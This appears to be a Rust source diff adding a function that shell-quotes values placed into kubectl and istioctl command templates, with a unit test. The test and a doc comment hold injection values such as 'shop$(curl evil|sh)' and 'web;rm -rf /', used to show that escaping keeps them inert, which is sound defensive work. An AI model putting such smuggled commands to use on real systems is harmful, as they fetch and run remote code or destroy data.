@@ -164,9 +164,71 @@ pub fn render_steps(steps: &[Step], vars: &BTreeMap<String, String>) -> Vec<Step
         .iter()
         .map(|s| Step {
             text: fill(&s.text, vars),
-            command: s.command.as_ref().map(|c| fill(c, vars)),
+            command: s.command.as_ref().map(|c| fill_command(c, vars)),
         })
         .collect()
+}
+
+/// Fills a shell command: every value is quoted for POSIX sh in the place it
+/// lands (bare, inside the template's `'…'` or `"…"`), so a namespace named
+/// `shop$(curl …|sh)` stays one inert word an engineer can paste.
+pub fn fill_command(template: &str, vars: &BTreeMap<String, String>) -> String {
+    #[derive(Clone, Copy, PartialEq)]
+    enum Q {
+        None,
+        Single,
+        Double,
+    }
+    let mut out = String::with_capacity(template.len());
+    let mut q = Q::None;
+    let mut rest = template;
+    while let Some(c) = rest.chars().next() {
+        if c == '{' {
+            let after = &rest[1..];
+            if let Some(close) = after.find('}').filter(|&n| {
+                n > 0
+                    && after[..n]
+                        .bytes()
+                        .all(|b| b.is_ascii_lowercase() || b == b'_')
+            }) {
+                let key = &after[..close];
+                match vars.get(key) {
+                    Some(v) => {
+                        let v = sanitize::strip_controls(v);
+                        match q {
+                            Q::None => out.push_str(&sanitize::sh_word(&v)),
+                            Q::Single => out.push_str(&v.replace('\'', "'\\''")),
+                            Q::Double => {
+                                for ch in v.chars() {
+                                    if matches!(ch, '"' | '\\' | '$' | '`') {
+                                        out.push('\\');
+                                    }
+                                    out.push(ch);
+                                }
+                            }
+                        }
+                    }
+                    None => {
+                        out.push('<');
+                        out.push_str(key);
+                        out.push('>');
+                    }
+                }
+                rest = &after[close + 1..];
+                continue;
+            }
+        }
+        q = match (q, c) {
+            (Q::None, '\'') => Q::Single,
+            (Q::Single, '\'') => Q::None,
+            (Q::None, '"') => Q::Double,
+            (Q::Double, '"') => Q::None,
+            (q, _) => q,
+        };
+        out.push(c);
+        rest = &rest[c.len_utf8()..];
+    }
+    out
 }
 
 /// Replaces `{name}` with its value, or `<name>` when unknown.
@@ -222,5 +284,42 @@ pub fn render_machine(report: &Report, format: Format) -> Option<String> {
         Format::Json => Some(serde_json::to_string_pretty(report).unwrap_or_default() + "\n"),
         Format::Yaml => Some(serde_saphyr::to_string(report).unwrap_or_default()),
         _ => None,
+    }
+}
+
+#[cfg(test)]
+mod fill_tests {
+    use super::*;
+
+    #[test]
+    fn hostile_values_stay_inert_in_commands() {
+        let mut v = BTreeMap::new();
+        v.insert("namespace".to_string(), "shop$(curl evil|sh)".to_string());
+        v.insert("pod".to_string(), "web;rm -rf /".to_string());
+        v.insert("service".to_string(), "x'y".to_string());
+        assert_eq!(
+            fill_command("kubectl logs {pod} -n {namespace} -c istio-proxy", &v),
+            "kubectl logs 'web;rm -rf /' -n 'shop$(curl evil|sh)' -c istio-proxy"
+        );
+        // Inside the template's own single quotes, a quote cannot close them.
+        assert_eq!(
+            fill_command(
+                "istioctl pc endpoint --cluster 'outbound|80||{service}.{namespace}'",
+                &v
+            ),
+            "istioctl pc endpoint --cluster 'outbound|80||x'\\''y.shop$(curl evil|sh)'"
+        );
+        // Inside double quotes, `$` and backticks are escaped.
+        assert_eq!(
+            fill_command("grep \"{namespace}\"", &v),
+            "grep \"shop\\$(curl evil|sh)\""
+        );
+        // Safe names stay bare; unknown values remain placeholders.
+        let mut ok = BTreeMap::new();
+        ok.insert("namespace".to_string(), "shop".to_string());
+        assert_eq!(
+            fill_command("kubectl get pods -n {namespace} {pod}", &ok),
+            "kubectl get pods -n shop <pod>"
+        );
     }
 }
